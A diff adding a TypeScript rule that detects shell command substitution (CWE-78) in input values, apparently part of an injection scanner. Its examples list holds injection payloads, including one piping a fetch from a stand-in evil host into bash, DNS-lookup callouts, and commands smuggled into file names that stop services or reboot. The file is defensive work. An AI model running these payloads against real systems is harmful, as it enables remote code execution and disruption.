@@ -1,0 +1,183 @@
+import { type Command, fit } from '../../grammars/shell/command.ts';
+import { commands } from '../../grammars/shell/commands.ts';
+import { introducer } from '../../grammars/shell/shell-introducer.ts';
+import { developerTools, use } from '../../knowledge/commands.ts';
+import { namesSecret } from '../../placement/command-place.ts';
+import { confidence } from '../../placement/confidence.ts';
+import type { Subject } from '../../placement/subject.ts';
+import { endsValue, standsBesideValue } from '../../text/place.ts';
+import type { Match, ValueRule } from '../rule.ts';
+
+/** `$(id)`, `` `id` ``, `<(curl …)`. */
+export const substitution: ValueRule = {
+  id: 'cmdi.substitution',
+  category: 'cmdi',
+  cwe: 'CWE-78',
+  severity: 'critical',
+  score: confidence.certain,
+  message: 'makes a shell run a command and put its output in place',
+  trigger: { literals: [['$(', '`', '<(', '>(']] },
+  judge,
+  examples: [
+    '$(nslookup evil.example.com)',
+    '`id`',
+    'photo$(sleep 7).jpg',
+    'x`ping -c 3 127.0.0.1`',
+    'who$(echo am)i',
+    '$(c""at /etc/hosts)',
+    'bash <(curl -s http://evil.example.com/x)',
+    'a.png${x:-$(dmesg)}',
+    'x$(while whoami;do break;done)',
+    'x$(( $(reboot) + 2))',
+    'It is broken again.$(systemctl stop ssh)',
+    'x`! sleep 2`',
+    '$(. /etc/hosts)',
+    '1$(trap "ls -la /" 0)',
+  ],
+  lookalikes: [
+    'Run `ls -la` in the folder, then `cat README.md` shows the text',
+    '$(document).ready(function () { $("#id").hide(); })',
+    'the price is $(12) less',
+    '`npm install` does not work for me, what now?',
+    'mount it with -v $(pwd)/data:/data and start the image again please',
+    '`less` or `more`?',
+    'What does `whoami` do?',
+    '#### [`git add`](/docs/add)',
+    '\\$(\\w+|[^}]*)',
+    'Add $(npm root --global) to the path.',
+    '> `npm install --save @types/node`',
+    '- [meta] export `./package.json` [`#9`](https://example.com/9)',
+    '### `hostname`\n\n* `ip` {string}',
+    'Execute `find -type f | egrep -i "(jpg|png)$"` every 300 seconds',
+    '> See also: `jobs`, `bg`, `disown`.',
+    '使用命令 `git add --intent-to-add` 标记新增文件',
+  ],
+};
+
+function judge(subject: Subject): Match | undefined {
+  const text = subject.text;
+  const reading = subject.tokens(commands);
+  if (!reading.complete) subject.incomplete('tokens');
+  let best: Match | undefined;
+  for (const command of reading.list) {
+    const { head } = command;
+    if (head.introducer < introducer.substitution) continue;
+    const score =
+      head.introducer === introducer.backtick
+        ? backtickScore(text, command)
+        : closedScore(text, command);
+    if (score > (best?.score ?? 0)) {
+      best = { start: head.start, end: closing(text, command), score };
+    }
+    if (score >= confidence.certain) break;
+  }
+  return best;
+}
+
+const closers = ')|;&';
+
+function closedScore(text: string, command: Command): number {
+  const { head } = command;
+  const isClosed = closers.includes(text.charAt(command.end));
+  if (command.hidden) return confidence.certain;
+  const isPlaced = isPlacedAt(text, command) || isGlued(text, head.start);
+  if (command.structured && isPlaced && command.fit >= fit.weak) return confidence.certain;
+  switch (command.fit) {
+    case fit.full:
+      return isPlaced || namesSecret(text, head.start, command.end)
+        ? confidence.certain
+        : confidence.hint;
+    case fit.weak:
+      if (developerTools.has(command.name) && !namesSecret(text, head.start, command.end))
+        return confidence.hint;
+      return (command.uses & use.english) === 0 && isClosed ? confidence.strong : confidence.trace;
+    case fit.sureAlone:
+      return isClosed || isPlaced ? confidence.strong : confidence.hint;
+    case fit.alone:
+      return isClosed && isPlaced && endsValue(text, command.end + 1)
+        ? confidence.strong
+        : confidence.trace;
+    case fit.aloneWord:
+      return isClosed && isPlaced && endsValue(text, command.end + 1)
+        ? confidence.likely
+        : confidence.trace;
+    default:
+      return 0;
+  }
+}
+
+/** In a script that stands beside a value, or beside one itself. */
+function isPlacedAt(text: string, { chain, head }: Command): boolean {
+  return chain < head.start || standsBesideValue(text, head.start);
+}
+
+/**
+ * Right behind the last word of a plain sentence, to the end of the text: code that is shown stands
+ * apart, or in code.
+ */
+function isGlued(text: string, start: number): boolean {
+  return (
+    glue.test(text.charAt(start - 1)) &&
+    start < sentenceMax &&
+    plain.test(text.slice(0, start)) &&
+    closed.test(text)
+  );
+}
+
+const sentenceMax = 400;
+const glue = /[\p{L}.!?]/u;
+const plain = /^[\p{L}\d\s.,!?'-]{1,400}$/u;
+const closed = /[)`]$/;
+
+/** Markdown marks code with backticks: only a value that is nothing else is an attack. */
+function backtickScore(text: string, command: Command): number {
+  if (command.structured && isPlacedAt(text, command) && command.fit > fit.none) {
+    return confidence.certain;
+  }
+  if (command.fit < fit.aloneWord) return 0;
+  const close = text.indexOf('`', command.end);
+  const end = close < 0 ? text.length : close + 1;
+  const { start } = command.head;
+  if (documentPath.test(text.slice(start, end))) return confidence.trace;
+  if (isListed.test(text.slice(Math.max(0, start - 24), start))) return confidence.trace;
+  const isTool = developerTools.has(command.name) && !runsCode.test(text.slice(start, end));
+  if (isTool && !command.hidden && !namesSecret(text, start, end)) return confidence.trace;
+  // A link of Markdown: [`name`](target).
+  const isLink = text.charAt(end) === ']' || text.charAt(start - 1) === '[';
+  const stands =
+    !isLink &&
+    !isInSentence(text, command.head.start, end) &&
+    ((standsBesideValue(text, command.head.start) && endsValue(text, end)) || isGlued(text, start));
+  if (!stands)
+    return command.hidden && command.fit === fit.full ? confidence.hint : confidence.trace;
+  if (command.fit === fit.aloneWord) {
+    const isQuoted = quotes.includes(text.charAt(start - 1) || ' ');
+    return (isQuoted && !text.slice(0, start).includes(' ')) || isGlued(text, start)
+      ? confidence.likely
+      : confidence.trace;
+  }
+  return command.fit === fit.alone ? confidence.strong : confidence.certain;
+}
+
+/** `./package.json` in marks of code: a file of a project, which nobody runs. */
+const documentPath =
+  /^`\.{1,2}\/[\w./@-]{1,80}\.(?:json|md|[cm]?[jt]sx?|css|html?|ya?ml|txt|toml|png|svg)`$/;
+
+/** The mark of a heading, a quotation or a list of Markdown right before it. */
+const isListed = /(?:^|\n)\s{0,8}(?:#{1,6}|[*+>-]|\d{1,2}\.) $/;
+/** `-c '…'`, `-e "…"` */
+const runsCode = / -[a-z]{0,3}[cer]\b ?['"]?/;
+
+/** Words on both sides, apart: ``What does `whoami` do?`` */
+function isInSentence(text: string, start: number, end: number): boolean {
+  return text.charCodeAt(start - 1) === 32 && wordAfter.test(text.slice(end, end + 4));
+}
+
+const wordAfter = /^ \p{L}/u;
+const quotes = '"\'';
+
+function closing(text: string, command: Command): number {
+  const close = command.head.introducer === introducer.backtick ? '`' : ')';
+  const at = text.slice(command.end, command.end + 64).indexOf(close);
+  return at < 0 ? command.end : command.end + at + 1;
+}
